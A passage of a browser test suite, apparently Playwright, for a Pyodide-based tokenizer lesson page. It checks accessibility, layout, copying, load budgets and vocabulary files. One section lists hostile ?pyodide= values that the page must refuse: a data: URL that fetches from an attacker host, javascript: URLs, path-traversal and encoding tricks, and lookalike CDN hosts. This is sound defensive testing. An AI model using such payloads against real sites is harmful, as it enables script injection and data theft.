        `hovering the ID at ${twice} of ${ids2} lit ${JSON.stringify(now)}`);
  await wide.mouse.move(1, 1);
  const axe = join(modules, "axe-core", "axe.min.js");
  const scan = async (label) => {
    if (!existsSync(axe)) return;
    if (!await wide.evaluate(() => Boolean(window.axe))) {
      await wide.evaluate(readFileSync(axe, "utf8"));  // as DevTools would: the CSP blocks inline scripts
    }
    for (const scheme of ["light", "dark"]) {
      await wide.emulateMedia({ colorScheme: scheme });
      const found = await wide.evaluate(async () => (await window.axe.run()).violations
        .map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(" ")}`));
      check(!found.length, `axe-core, ${label}, ${scheme}: ${found.join("; ")}`);
    }
    await wide.emulateMedia({ colorScheme: "light" });
  };
  await scan("--tokens");
  for (const [query, label] of [["view=trace&text=caf%C3%A9", "--trace"],
                                ["view=languages&text=my+order", "--languages and its chart"]]) {
    await wide.goto(at(query));
    await settled(wide);
    await scan(label);
  }
  // An error is announced, not only shown
  await wide.goto(at("seed=abc"));
  await settled(wide);
  const announced = await wide.evaluate(() => ({
    said: document.getElementById("announce").textContent,
    role: document.getElementById("announce").getAttribute("role") }));
  check(announced.role === "status" && /refused it: .*abc/.test(announced.said),
        `an error is announced as "${announced.said}"`);
  await scan("an error");
  await wide.goto(at(""));
  await settled(wide);
  if (existsSync(axe)) await scan("the lesson");
  else console.log("page: axe-core is not in NODE_MODULES: its check did not run");
  // Dark mode: the page and the figure's paper turn dark, its ink light.
  await wide.emulateMedia({ colorScheme: "dark" });
  const dark = await wide.evaluate(() => {
    const rgb = (c) => c.match(/\d+(\.\d+)?/g).slice(0, 3).map(Number);
    const light = (c) => rgb(c).reduce((a, b) => a + b) / 765;
    const title = document.querySelector("#figure svg > text");
    return { page: light(getComputedStyle(document.body).backgroundColor),
             ink: light(getComputedStyle(document.body).color),
             title: light(getComputedStyle(title).fill) };
  });
  check(dark.page < 0.2 && dark.ink > 0.8 && dark.title > 0.8,
        `in dark mode: page ${dark.page}, ink ${dark.ink}, figure title ${dark.title}`);
  await wide.emulateMedia({ colorScheme: "light" });
  await desktop.close();
  // A slide, at 1920 x 1080 and at 200% zoom: the output and the figure (or the
  // painted tokens) in the first screen together, the View select in it too, the
  // figure whole; at 1920 the text, the controls and the figure grow together.
  for (const [width, height, scale] of [[1920, 1080, 1], [960, 540, 2]]) {
    const slides = await context({ viewport: { width, height }, deviceScaleFactor: scale });
    const slide = await slides.newPage();
    watch(slide);
    for (const query of ["view=table&text=my+order+order", "", "view=tokens&text=refund+my+order"]) {
      await slide.goto(at(query));
      await settled(slide);
      const seen = await slide.evaluate(() => {
        const box = (selector) => {
          const element = document.querySelector(selector);
          if (!element || element.closest("[hidden]")) return null;
          const r = element.getBoundingClientRect();
          return [r.left, r.top, r.right, r.bottom].map(Math.round);
        };
        const first = document.querySelector("#output .line");
        const px = (element) => parseFloat(getComputedStyle(element).fontSize);
        const svg = document.querySelector("#figure svg");
        return { output: box("#output"), line: first && box("#output .line"),
                 figure: box("#figure svg"), strip: box("#strip"), view: box("#view"),
                 w: innerWidth, h: innerHeight, said: document.getElementById("status").textContent,
                 body: px(document.body), h1: px(document.querySelector("h1")),
                 h2: px(document.querySelector("h2")), select: px(document.getElementById("view")),
                 scale: svg ? svg.getBoundingClientRect().width / svg.viewBox.baseVal.width : null,
                 cut: document.documentElement.scrollWidth - innerWidth };
      });
      const inside = (r) => r && r[0] >= 0 && r[1] >= 0 && r[2] <= seen.w && r[3] <= seen.h;
      const where = `at ${width} x ${height} (x${scale}), ?${query}`;
      check(inside(seen.line) && seen.output[1] < seen.h && inside(seen.view) && seen.cut <= 0,
            `${where}: the output or the View select is not on the first screen: ` +
            JSON.stringify(seen));
      if (query.includes("tokens")) {
        check(inside(seen.strip), `${where}: the painted tokens are off the screen: ${seen.strip}`);
      } else {
        check(inside(seen.figure), `${where}: the figure is not whole on the first screen ` +
              `beside the output: ${JSON.stringify(seen)}`);
      }
      if (width === 1920 && seen.figure) {
        check(seen.body >= 20 && seen.h1 > seen.h2 && seen.h2 > seen.body &&
              seen.select >= seen.body && seen.scale >= seen.body / 16 - 0.01,
              `${where}: ${JSON.stringify(seen)}`);
      }
    }
    await slides.close();
  }
  done("a token lights its ID, its line and its row, by tap, mouse and keyboard, --tokens' " +
       "and --trace's painted tokens too; names, word buttons, ids, axe, dark mode; a slide " +
       "shows the output and the figure together");

  // --languages' table on a phone, on a slide at 200% zoom and at 1920 x 1080: every row
  // on one line, never wrapped; its text 11 px or more; it fits the box, or (on the phone)
  // scrolls sideways as one table and says so. Its chart, beside it from 896 px on (and
  // on a laptop, 1366 x 768), whole on the first screen, its text 11 px or more: the
  // table scrolls rather than squeeze it
  const languages = states.findIndex((state) => state.query === "view=languages&merges=20");
  for (const [width, height, scale, fits] of [[390, 844, 1, false], [960, 540, 2, true],
                                              [1366, 768, 1, true], [1920, 1080, 1, true]]) {
    const made = await context({ viewport: { width, height }, deviceScaleFactor: scale,
                                 isMobile: width < 800, hasTouch: width < 800 });
    const page = await made.newPage();
    watch(page);
    await page.goto(at(states[languages].query));
    await settled(page);
    const seen = await page.evaluate(() => {
      const output = document.getElementById("output"), style = getComputedStyle(output);
      const high = parseFloat(style.lineHeight);
      const rows = [...output.querySelectorAll(".line")].filter((line) =>
        /\S {2,}\S/.test(line.textContent));
      const svg = document.querySelector("#figure svg"), chart = svg?.getBoundingClientRect();
      return { text: output.textContent, px: parseFloat(style.fontSize), rows: rows.length,
               wrapped: rows.filter((line) => line.getBoundingClientRect().height > 1.5 * high)
                 .map((line) => line.textContent.trim().slice(0, 20)),
               cut: output.scrollWidth - output.clientWidth,
               said: document.getElementById("output-more")?.hidden === false,
               chart: chart && [chart.left, chart.top, chart.right, chart.bottom].map(Math.round),
               chartPx: chart ? 14 * chart.width / svg.viewBox.baseVal.width : 0,
               w: innerWidth, h: innerHeight };
    });
    const where = `--languages at ${width} x ${height} (x${scale})`;
    check(seen.chartPx >= 11 && (width < 800 || (seen.chart[0] >= 0 && seen.chart[1] >= 0 &&
          seen.chart[2] <= seen.w && seen.chart[3] <= seen.h)),
          `${where}: its chart is at ${JSON.stringify(seen.chart)} (a screen of ${seen.w} x ` +
          `${seen.h}), its text ${seen.chartPx} px`);
    check(seen.text === read(`page-${languages}.out`), `${where}: prints\n${seen.text}`);
    check(seen.rows >= 17 && !seen.wrapped.length && seen.px >= 11,
          `${where}: of ${seen.rows} rows, ${seen.wrapped.length} wrap (${seen.wrapped}), ` +
          `in ${seen.px} px`);
    check(fits ? seen.cut <= 0 && !seen.said : seen.cut > 0 && seen.said,
          `${where}: the table is ${seen.cut} px wider than its box, and ` +
          `${seen.said ? "says" : "does not say"} so`);
    await made.close();
  }
  done("--languages' table: no row wrapped on a phone, on a slide at 200% zoom, on a laptop " +
       "and at 1920 x 1080; it fits, or scrolls sideways as one and says so; its chart " +
       "whole on the first screen beside it, its text 11 px or more");

  // The copy panel, by a real mouse, on a laptop, a tall laptop, a slide and a slide at
  // 200% zoom: each radio button and the copy button is clicked where a person would (a
  // click that waits for nothing to cover the control, or the mouse at its centre), gets
  // the click (nothing of the output or the figure lies over it), and does what it says.
  const copyOf = (command) => read(`page-${states.findIndex((s) => s.copy === command)}.copy`);
  for (const [width, height, scale] of [[1366, 768, 1], [1366, 900, 1], [1920, 1080, 1],
                                        [960, 540, 2]]) {
    const made = await context({ viewport: { width, height }, deviceScaleFactor: scale,
                                 permissions: ["clipboard-read", "clipboard-write"] });
    const page = await made.newPage();
    watch(page);
    await page.goto(at(""));
    await settled(page);
    const where = `at ${width} x ${height} (x${scale})`;
    const hit = (selector) => page.evaluate((selector) => {  // what a click at its centre reaches
      const control = document.querySelector(selector);
      control.scrollIntoView({ block: "center" });
      const r = control.getBoundingClientRect();
      const at = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
      return at === control || control.contains(at) ? "" : `${at?.tagName} ${at?.id}` +
        ` ${at?.closest("[id]")?.id ?? ""} lies over it`;
    }, selector);
    const click = async (selector) => {
      await page.evaluate(() => window.scrollTo(0, 0));  // from the top, as a person scrolls
      try {
        await page.locator(selector).click({ timeout: 5000 });
      } catch (error) {
        check(false, `${where}: a click on ${selector} did not reach it: ` +
              error.message.split("\n").find((line) => /intercepts|covers|Timeout/.test(line)));
      }
      const over = await hit(selector);
      check(!over, `${where}: at the centre of ${selector}, ${over}`);
      await settled(page);
    };
    const panel = () => page.evaluate(() => ({
      source: document.getElementById("source").textContent,
      command: document.getElementById("copy-command").textContent,
      copied: document.getElementById("copied").textContent }));
    await click("input[name=kind][value=checked]");
    let now = await panel();
    check(now.command === "python3 tokembed.py --copy lookup --checked" &&
          now.source === copyOf(now.command), `${where}: "with its input checks" gave ` +
          `${now.command}, showing\n${short(now.source)}`);
    await page.selectOption("#copy", "cosine");
    await click("input[name=kind][value=exercise]");
    now = await panel();
    check(now.command === "python3 tokembed.py --exercise cosine" &&
          now.source === copyOf(now.command), `${where}: "as an exercise" gave ` +
          `${now.command}, showing\n${short(now.source)}`);
    const over = await hit("#clipboard");  // the mouse itself, at the button's centre
    check(!over, `${where}: at the centre of Copy to the clipboard, ${over}`);
    const box = await page.locator("#clipboard").boundingBox();
    await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
    await page.waitForFunction(() => document.getElementById("copied").textContent, null,
                               { timeout: 5000 }).catch(() => {});
    now = await panel();
    const pasted = await page.evaluate(() => navigator.clipboard.readText()).catch((e) => `${e}`);
    check(now.copied === "Copied." && pasted === now.source,
          `${where}: Copy to the clipboard said "${now.copied}" and copied ${short(pasted)}`);
    await click("input[name=kind][value=lesson]");
    now = await panel();
    check(now.command === "python3 tokembed.py --copy cosine" &&
          now.source.startsWith('"""cosine: lesson view'),
          `${where}: "the lesson view" gave ${now.command}, showing\n${short(now.source)}`);
    await made.close();
  }
  done("the copy panel's radio buttons and copy button take a real click at 1366 x 768, " +
       "1366 x 900, 1920 x 1080 and 200% zoom, nothing over them, and do what they say");
}

// --- 3. Only this folder's code runs, whatever ?pyodide= says --------------------------------
if (only(3)) {
  const port = attacker.address().port;
  const attacks = [
    "data:text/javascript,alert(document.domain)//",
    `data:text/javascript,fetch('${evil}/data')//`,
    `${evil}/`, `${evil}`, `//127.0.0.2:${port}/`,
    `/\\127.0.0.2:${port}/`, `\t//127.0.0.2:${port}/`,
    `HTTP://127.0.0.2:${port}/`, `http://127.0.0.1@127.0.0.2:${port}/`,
    `blob:${base}/00000000-0000-0000-0000-000000000000`, "javascript:alert(1)//",
    "https://cdn.jsdelivr.net/npm/pyodide@314.0.6/", "https://cdn.jsdelivr.net.evil.example/",
    // this site, but outside the page's own folder: on shared hosting, someone else's
    "../other/", "..%2Fother/", "%2E%2E/other/", ".%2e/other/", "%2e%2e%2fother%2f",
    "pyodide/../../other/", "pyodide/%2E%2E/%2E%2E/other/", "pyodide%2F..%2F..%2Fother/",
    "/other/", "/.docs/pyodide/", `${base}/other/`, `${base}/.docs/pyodide/`, "./pyodide/",
    "pyodide\\..\\..\\other\\", "..\\other\\", "pyodide/..", ".", "..", "~user/",
    "%2Fother/", "pyodide/./../../other/", " ../other/", "pyodide/?x=../../other/",
    "pyodide/#/../../other/",
  ];
  const made = await context();
  const page = await made.newPage();
  const seen = watch(page);
  const asked = [];
  page.on("request", (request) => asked.push(request.url()));
  for (const [k, attack] of attacks.entries()) {
    const query = new URLSearchParams({ text: "my order", view: "table", pyodide: attack });
    if (k === 3) query.append("pyodide", "pyodide/");  // two: the first must not win
    asked.length = 0;
    await page.goto(`${base}/.docs/index.html?${query}`);
    await page.waitForSelector("#status[data-state=error]", { timeout: 20000 });
    await page.waitForTimeout(200);
    const after = await page.evaluate(() => ({
      status: document.getElementById("status").textContent, title: document.title,
      url: location.search, text: document.getElementById("text").disabled,
      view: document.getElementById("view").disabled,
      link: document.querySelector("#help a")?.getAttribute("href") ?? "" }));
    const where = `?pyodide=${JSON.stringify(attack)}`;
    const fetched = asked.filter((url) => !/\/\.docs\/(index\.html|page\.js|page\.css)/.test(url));
    check(/did not load it/.test(after.status), `${where}: says "${after.status}"`);
    check(!fetched.length, `${where}: asked for ${fetched} before refusing`);
    check(after.title !== "PWNED", `${where}: ran the attacker's script`);
    check(!after.url.includes("pyodide="), `${where}: keeps the refused ?pyodide= in its URL`);
    check(!after.text && !after.view, `${where}: leaves the controls disabled`);
    check(after.link && !after.link.includes("pyodide"), `${where}: offers no clean link`);
    await page.selectOption("#view", "--one-hot");  // the controls still say the command
    check(await page.textContent("#command") === "python3 tokembed.py --one-hot -- my order" &&
          !(await page.evaluate(() => location.search)).includes("pyodide"),
          `${where}: a changed control brings back the refused ?pyodide=, or no command`);
  }
  check(!seen.length, `ran code from elsewhere: ${seen.join("; ")}`);
  check(!attacked.length, `asked the attacker's server for ${attacked.join(", ")}`);
  check(!elsewhere.length, `asked for another folder's code: ${elsewhere.join(", ")}`);
  check(!outside.length, `sent requests away from 127.0.0.1: ${outside.join(", ")}`);
  await made.close();
  done(`${attacks.length} hostile ?pyodide= links are refused before any request, with a ` +
       "message, and nothing leaves 127.0.0.1");

  // The Content-Security-Policies alone stop them too: with both of the page's own
  // checks taken out (page.js and worker.js, as served), no foreign script loads. The
  // HTML's policy stops other sites; the one page.js adds, other folders of this site.
  const bare = await context();
  const unchecked = {
    "page.js": ["  if (!given.length) return { folder: PYODIDE };\n",
                "  if (!given.length) return { folder: PYODIDE };\n  return { folder: new " +
                "URL(given[0], location.href).href.replace(/\\/?$/, \"/\"), asGiven: given[0] };\n"],
    "worker.js": ["function allowed(folder) {", "function allowed(folder) { return true;"],
  };
  for (const [name, [from, to]] of Object.entries(unchecked)) {
    const body = served(name);
    check(body.includes(from), `${name} no longer has "${from}": update this check`);
    await bare.route(`${base}/.docs/${name}`, (route) => route.fulfill({
      contentType: "text/javascript", body: body.replace(from, to) }));
  }
  const open = await bare.newPage();
  const seenBare = watch(open);
  for (const attack of [`${evil}/`, `data:text/javascript,console.log("PWNED")//`,
                        "https://cdn.jsdelivr.net/npm/pyodide@314.0.6/", "../other/",
                        "/other/", `${base}/other/`]) {
    await open.goto(`${base}/.docs/index.html?${new URLSearchParams({ pyodide: attack })}`);
    await open.waitForSelector("#status[data-state=error]", { timeout: 20000 });
    check(/could not be loaded/.test(await open.textContent("#status")),
          `unchecked, ?pyodide=${attack}: says "${await open.textContent("#status")}"`);
  }
  const policy = await open.evaluate(() => window.tokembedPage.policy);
  check(policy.includes(`script-src ${base}/.docs/ `) && !policy.includes(`${base}/ `),
        `the page's own policy is "${policy}", not this folder's`);
  check(!seenBare.length && !attacked.length && !elsewhere.length,
        `unchecked, the policy let code from elsewhere run: ${seenBare} ${attacked} ${elsewhere}`);
  const cdnAsked = outside.filter((url) => url.includes("pyodide@314.0.6"));
  check(!cdnAsked.length, `unchecked, the policy let the page ask for ${cdnAsked}`);
  outside.length = 0;  // those were the policy's to stop, and it did
  await bare.close();
  done("with the page's own checks removed, its Content-Security-Policies still stop them");

  // With no ?pyodide=, the page loads the pinned jsDelivr copy: answered here, from
  // the npm package, so that nothing leaves this machine.
  const cdn = await context();
  const CDN = "https://cdn.jsdelivr.net/npm/pyodide@314.0.7/";
  const fromCdn = [];
  await cdn.route(`${CDN}**`, (route) => {
    const name = route.request().url().slice(CDN.length).split("?")[0];
    fromCdn.push(name);
    const types = { mjs: "text/javascript", wasm: "application/wasm", json: "application/json" };
    route.fulfill({ body: readFileSync(join(modules, "pyodide", name)),
                    headers: { "content-type": types[name.split(".").pop()] ??
                               "application/octet-stream", "access-control-allow-origin": "*" } });
  });
  const pinned = await cdn.newPage();
  watch(pinned);
  await pinned.goto(`${base}/.docs/index.html?view=table`);
  await settled(pinned);
  const fromPinned = await shown(pinned);
  check(fromPinned.output.startsWith("token ids: [3, 1, 4]\nid") && fromCdn.includes("pyodide.mjs") &&
        !fromPinned.url.includes("pyodide"),
        `with no ?pyodide=, loaded ${fromCdn} and showed ${fromPinned.output.slice(0, 40)}`);
  await cdn.close();
  done(`with no ?pyodide=, Pyodide comes from ${CDN} (${fromCdn.length} files, answered here)`);
}

// --- 4b. The real vocabularies, served from .docs/vocab/ (run in 4, with its budget) ---------
// OpenAI's three files, and Llama 3's if TOKEMBED_CACHE has it, linked in for these checks
// only: the page looks for them only for the views that take --vocab and --languages,
// reads each once when --vocab or --languages first runs (no long task meanwhile), offers
// them, and shows byte for byte what python3 prints with them in its cache (--languages'
// chart too); a damaged one it leaves out, and says so.
async function servedVocabularies(budget) {
  if (vocabStates === null) {
    if (process.env.CI) fail("cannot be checked with the real vocabularies: TOKEMBED_CACHE " +
                             "does not hold vocab.bpe, cl100k_base.tiktoken and " +
                             "o200k_base.tiktoken");
    console.log("page: TOKEMBED_CACHE holds no vocabularies: their checks did not run");
    return;
  }
  mkdirSync(vocabFolder);
  const remove = () => rmSync(vocabFolder, { recursive: true, force: true });
  process.on("exit", remove);
  const offers = vocabularies.served, offered = offers.map((name) => vocabularies.files[name]);
  for (const file of offered) {
    symlinkSync(resolve(vocabularies.cache, file), join(vocabFolder, file));
  }
  const asked = () => site.requests.filter((request) => request.includes("/.docs/vocab/"));
  const field = (page) => page.evaluate(() => ({
    options: [...document.getElementById("vocab").options].map((option) => option.value),
    disabled: document.getElementById("vocab").disabled,
    note: document.getElementById("vocab-note").textContent,
    seed: [document.getElementById("seed").disabled,
           document.getElementById("seed-note").textContent],
    d: [document.getElementById("d_model").disabled,
        document.getElementById("d_model-note").textContent] }));
  const wide = await context({ viewport: { width: 1366, height: 900 } });
  const page = await wide.newPage();
  watch(page);
  let before = asked().length;
  await page.goto(at(""));
  await settled(page);
  check(asked().length === before, `the lesson asked for ${asked().slice(before)}`);
  before = asked().length;
  await page.goto(at("view=tokens"));  // looked for, offered, not read
  await settled(page);
  let got = asked().slice(before), now = await field(page);
  check(got.length === files.length &&
        files.every((file) => got.includes(`HEAD /.docs/vocab/${file}`)),
        `--tokens looked for the vocabularies with ${got.join(", ")}`);
  check(now.options.join() === ["", ...offers].join() && !now.disabled && now.note === "",
        `with the vocabularies served, --vocab offers ${now.options} (disabled: ` +
        `${now.disabled}), saying "${now.note}"`);
  const most = await budget();
  before = asked().length;
  await page.evaluate(() => window.tokembedPage.events.push(["chosen", performance.now()]));
  await page.selectOption("#vocab", "o200k_base");  // read, each once, in no long task
  await settled(page, 240000);
  got = asked().slice(before);
  const slowest = await longAfter(page, "chosen");
  let seen = await shown(page);
  check(got.length === offered.length &&
        offered.every((file) => got.includes(`GET /.docs/vocab/${file}`)),
        `choosing o200k_base read ${got.join(", ")}, not each file once`);
  check(slowest <= most, `reading the vocabularies took a main-thread task of ${slowest} ms ` +
        `(at most ${Math.round(most)})`);
  check(seen.command === "python3 tokembed.py --tokens --vocab o200k_base" &&
        seen.output === read("vocab-0.out") && /vocab=o200k_base/.test(seen.url),
        `choosing o200k_base shows "${seen.command}", ${seen.url}:\n${seen.output}`);
  now = await field(page);
  check(now.seed[0] && now.d[0] && now.seed[1] === "--tokens --vocab takes no --seed" &&
        now.d[1] === "--tokens --vocab takes no --d-model",
        `--vocab leaves --seed and --d-model on, or says ${now.seed[1]}, ${now.d[1]}`);
  before = asked().length;
  await page.selectOption("#view", "--languages");  // nothing read again
  await settled(page, 240000);
  seen = await shown(page);
  check(asked().length === before && seen.output === read("vocab-1.out"),
        `--languages after --vocab asked for ${asked().slice(before)}, and shows\n${seen.output}`);
  console.log(`page: the vocabularies, served: read when first chosen, longest main-thread ` +
              `task ${slowest} ms (at most ${Math.round(most)})`);
  await wide.close();
  // Each link, fresh, on a phone
  const phones = await context({ viewport: { width: 375, height: 812 }, hasTouch: true,
                                 isMobile: true, deviceScaleFactor: 1 });
  for (const [k, state] of vocabStates.entries()) {
    const page = await phones.newPage();
    watch(page);
    await page.goto(at(state.query));
    await settled(page, 240000);
    const seen = await shown(page), cut = await layout(page), now = await field(page);
    const expected = read(`vocab-${k}.out`), where = `?${state.query}, served`;
    check(seen.command === state.command && seen.output === expected && seen.whole === expected,
          `${where}: shows "${seen.command}", printing\n${seen.output}--- not\n${expected}`);
    check((cut.outputCut <= 0 || cut.outputCue) && cut.pageCut <= 0 && !cut.small.length,
          `${where}: at 375 px, cut by ${cut.outputCut} and ${cut.pageCut} px; small: ` +
          `${cut.small}`);
    const figure = existsSync(join(reference, `vocab-${k}.svg`)) ? read(`vocab-${k}.svg`) : "";
    check(seen.figure === figure, `${where}: draws a different figure`);
    if (["--tokens", "--trace"].includes(state.argv[0])) {
      const text = splitText(state.argv, expected), strip = await painted(page);
      check(strip.text === text, `${where}: paints "${strip.text}", not the text "${text}"`);
      linked(strip, where, seen.tokens?.ids ?? []);
      check(strip.names.every((name) => NAMED.test(name) && !NAMED.exec(name)[2]),
            `${where}: names its tokens ${strip.names.slice(0, 3)}, with a row`);
      check(now.options.join() === ["", ...offers].join() && !now.disabled && now.note === "",
            `${where}: --vocab offers ${now.options}, saying "${now.note}"`);
    } else {
      check(now.note === `--languages takes no --vocab: it counts in each vocabulary this ` +
            `page's server has, ${listed(offers)}.`, `${where}: says "${now.note}"`);
    }
    await page.close();
  }
  await phones.close();
  // A damaged file: left out, and said so
  const damaged = await context();
  await damaged.route(`**/.docs/vocab/${files[1]}`, (route) => route.fulfill({
    contentType: "application/octet-stream", body: "not a vocabulary\n" }));
  const broken = await damaged.newPage();
  watch(broken);
  await broken.goto(at("view=languages"));
  await settled(broken, 240000);
  seen = await shown(broken);
  now = await field(broken);
  const others = offers.filter((name) => name !== names[1]);  // all but the damaged one
  check(now.note === `.docs/vocab/${files[1]} on this page's server is not ${names[1]}'s file ` +
        `(damaged, or another file by that name), so the page leaves ${names[1]} out: ` +
        "whoever serves the page can copy it again from ~/.cache/tokembed. --languages " +
        `takes no --vocab: it counts in each vocabulary this page's server has, ` +
        `${listed(others)}.` && now.options.join() === ["", ...others].join() &&
        / GPT-4: not downloaded\n/.test(seen.output) && !/GPT-4o: not/.test(seen.output),
        `a damaged ${files[1]}: says "${now.note}", offers ${now.options}, shows\n${seen.output}`);
  await damaged.close();
  // The same damaged file on plain http from another machine, where the page has no
  // crypto.subtle: it is checked all the same (by Python's hashlib), left out, and said so
  // in the page's own words, which ask no learner to remove a file; the others load.
  const classSite = await classServer();
  if (classSite) {
    const insecure = await context({}, classSite.base);
    const sound = await insecure.newPage();
    watch(sound);
    await sound.goto(`${classSite.base}/.docs/index.html?${vocabStates[0].query}&pyodide=pyodide/`);
    await settled(sound, 240000);
    const secure = await sound.evaluate(() => [window.isSecureContext, Boolean(crypto.subtle)]);
    seen = await shown(sound);
    check(secure.join() === "false,false" && seen.output === read("vocab-0.out"),
          `on plain http from ${classSite.base} (secure context, crypto.subtle: ${secure}), ` +
          `${vocabStates[0].command} shows\n${seen.output}`);
    await sound.close();
    await insecure.route(`**/.docs/vocab/${files[1]}`, (route) => route.fulfill({
      contentType: "application/octet-stream", body: "not a vocabulary\n" }));
    const page = await insecure.newPage();
    watch(page);
    await page.goto(`${classSite.base}/.docs/index.html?view=languages&pyodide=pyodide/`);
    await settled(page, 240000);
    seen = await shown(page);
    now = await field(page);
    check(now.note === `.docs/vocab/${files[1]} on this page's server is not ${names[1]}'s file ` +
          `(damaged, or another file by that name), so the page leaves ${names[1]} out: ` +
          "whoever serves the page can copy it again from ~/.cache/tokembed. --languages " +
          "takes no --vocab: it counts in each vocabulary this page's server has, " +
          `${listed(others)}.` && now.options.join() === ["", ...others].join() &&
          / GPT-4: not downloaded\n/.test(seen.output) && !/GPT-4o: not/.test(seen.output) &&
          !/remove it/.test(seen.output + now.note),
          `on plain http, a damaged ${files[1]}: says "${now.note}", offers ${now.options}, ` +
          `shows\n${seen.output}`);
    await insecure.close();
  }
  remove();
  done(`the real vocabularies (${listed(offers)}), served: looked for only by the views that ` +
       `take --vocab and --languages, read once ` +
       `when first run, ${vocabStates.length} links the same bytes as python3, a damaged file ` +
       `left out${classSite ? ", on plain http from another machine too" : ""}`);
}

// --- 4. Never frozen: budgets, measured in this run --------------------------------------------
if (only(4)) {
  const made = await context({ viewport: { width: 1366, height: 900 } });
  const BARE = `<!doctype html><meta charset="utf-8"><title>bare</title><script type="module">
const { loadPyodide } = await import("/.docs/pyodide/pyodide.mjs");
const pyodide = await loadPyodide({ indexURL: "/.docs/pyodide/" });
pyodide.runPython("1 + 1");
window.__done = performance.now();
</script>`;
  await made.route(`${base}/bare.html`, (route) => route.fulfill({
    contentType: "text/html", body: BARE }));
  // Budgets are parts of what the bare page takes in the same run, never milliseconds, so
  // that a busy machine, which slows both alike, fails neither. The bare page takes 4 to
  // 5 s to start Python on a quiet 2-core machine: no task of the page's, and no key
  // press from input to the frame that shows it, may take more than a SHARE of that
  // time's median (about 120 ms there). Its longest task is no yardstick: one Chromium
  // starts Python in one task of 2 to 3 s, Debian's 2026 one in tasks of about 160 ms.
  const SHARE = 1 / 40;
  const bareRun = async () => {
    const plain = await made.newPage();
    await plain.goto(`${base}/bare.html`);
    await plain.waitForFunction(() => window.__done, null, { timeout: 300000 });
    const took = await plain.evaluate(() => [
      window.__done, Math.max(0, ...window.__longest.map(([, ms]) => ms))]);
    await plain.close();
    return took;
  };
  const bare = [], bareLongest = [], mine = [], paints = [], longest = [], steps = [];
  // Later checks measure the bare page again, just before: the machine may be busier.
  const budget = async () => SHARE * Math.max(median(bare), (await bareRun())[0]);
  // One of each to warm the caches, then seven of each, alternated, so that the
  // machine's load falls on both alike; medians, so that one slow load is not the answer,
  // and of each pair's ratio, so that a load that comes and goes falls on both of a pair.
  for (let k = -1; k < 7; k += 1) {
    const [plainTook, plainLongest] = await bareRun();
    const page = await made.newPage();
    watch(page);
    const asked = [];
    page.on("request", (request) => asked.push(new URL(request.url()).pathname));
    await page.goto(at(""));
    await settled(page);
    const got = await page.evaluate(() => ({
      events: window.tokembedPage.events, timings: window.tokembedPage.timings,
      said: window.__said,
      paint: performance.getEntriesByName("first-contentful-paint")[0]?.startTime,
      first: window.__firstFrame, long: window.__longest }));
    const when = (what) => got.events.find(([name]) => name === what)?.[1];
    await page.close();
    if (k < 0) continue;
    bare.push(plainTook);
    bareLongest.push(plainLongest);
    mine.push(when("output"));
    paints.push(got.paint);
    longest.push(Math.max(0, ...got.long.map(([, ms]) => ms)));
    steps.push(got);
    check(got.first === read("lesson.out"), "the first frame does not show the lesson's output");
    // the status goes forward only: loading, arrived, started, ready (or running); never back
    const stages = got.said.map((said) => [/^Loading Python/, /^Python \(Pyodide/,
      /^Python has started/, /^(Ready:|Running) /].findIndex((start) => start.test(said)));
    check(stages.length >= 3 && !stages.includes(-1) &&
          stages.every((stage, j) => !j || stage >= stages[j - 1]),
          `while loading, the status went ${JSON.stringify(got.said)}`);
    check(when("output") < when("figure") && when("figure") < when("source"),
          `fills the figure or the copy panel before the text: ${JSON.stringify(got.events)}`);
    const source = asked.indexOf("/tokembed.py"), wasm = asked.findIndex((p) => p.endsWith(".wasm"));
    check(source >= 0 && wasm >= 0 && source < wasm,
          `fetches tokembed.py after Pyodide, not beside it: ${asked.join(" ")}`);
  }
  const ratio = median(mine.map((ms, k) => ms / bare[k])), most = SHARE * median(bare);
  bareTook = median(bare);
  const share = (ms) => `${ms} ms, ${(ms / median(bare)).toFixed(3)} of the bare page's ` +
    `start (${Math.round(median(bare))} ms; at most ${SHARE.toFixed(3)}); its longest task ` +
    `${Math.round(median(bareLongest))} ms`;
  check(median(paints) <= median(bare) / 4, `first paint after ${median(paints)} ms, more ` +
        `than a quarter of a bare loadPyodide() and runPython (${median(bare)} ms)`);
  check(ratio <= 1.3, `first Python output ${seconds(median(mine))}, ${ratio.toFixed(2)}x a ` +
                      `bare loadPyodide() and runPython (${seconds(median(bare))})`);
  check(Math.max(...longest) <= most, `a main-thread task of ${share(Math.max(...longest))} ` +
        "while loading");
  const step = (pick) => Math.round(median(steps.map(pick)));
  const event = (name) => step((got) => got.events.find(([what]) => what === name)?.[1]);
  const timing = (name) => step((got) => got.timings[name]);
  console.log(`page: loading, medians of 7 (ms from navigation): first paint ` +
    `${Math.round(median(paints))}; worker started ${event("worker")}; tokembed.py arrived ` +
    `${timing("source:tokembed.py")}, pyodide.mjs ${timing("loader:pyodide.mjs")}, ` +
    `pyodide.asm.wasm ${timing("file:pyodide.asm.wasm")}; Python started ` +
    `${timing("python:Python")}; tokembed imported ${event("ready")}; first Python output ` +
    `${event("output")} (a bare loadPyodide() and runPython: ${Math.round(median(bare))}, ` +
    `so ${ratio.toFixed(2)}x); figure ${event("figure")}; copy panel ${event("source")}; ` +
    `longest main-thread task ${share(Math.max(...longest))}`);

  // --train, fresh: loading and training, and not one long task; then a held arrow key.
  const most2 = await budget();
  const page = await made.newPage();
  watch(page);
  await page.goto(at("view=train&seed=5"));
  await settled(page);
  const train = await page.evaluate(() => ({ long: window.__longest,
    ran: window.tokembedPage.runs.length }));
  check(Math.max(0, ...train.long.map(([, ms]) => ms)) <= most2, `a main-thread task of ` +
        `${JSON.stringify(train.long)} ms during --train (at most ${Math.round(most2)})`);
  await page.evaluate(() => { window.tokembedPage.runs.length = 0; });
  await page.selectOption("#view", "");
  await settled(page);
  await page.focus("#view");
  await page.evaluate(() => { window.tokembedPage.runs.length = 0; window.__slowest = 0; });
  for (let k = 0; k < 8; k += 1) {  // the lesson, down through every view to --positions
    await page.keyboard.press("ArrowDown");
    await page.waitForTimeout(40);
  }
  await settled(page);
  const held = await page.evaluate(() => ({ runs: window.tokembedPage.runs,
    view: document.getElementById("view").value, slowest: window.__slowest }));
  check(held.view === "--positions", `eight arrow presses reached ${held.view}`);
  check(held.runs.filter((argv) => !argv.includes("--svg")).length <= 1 &&
        !held.runs.some((argv) => argv[0] === "--train"),
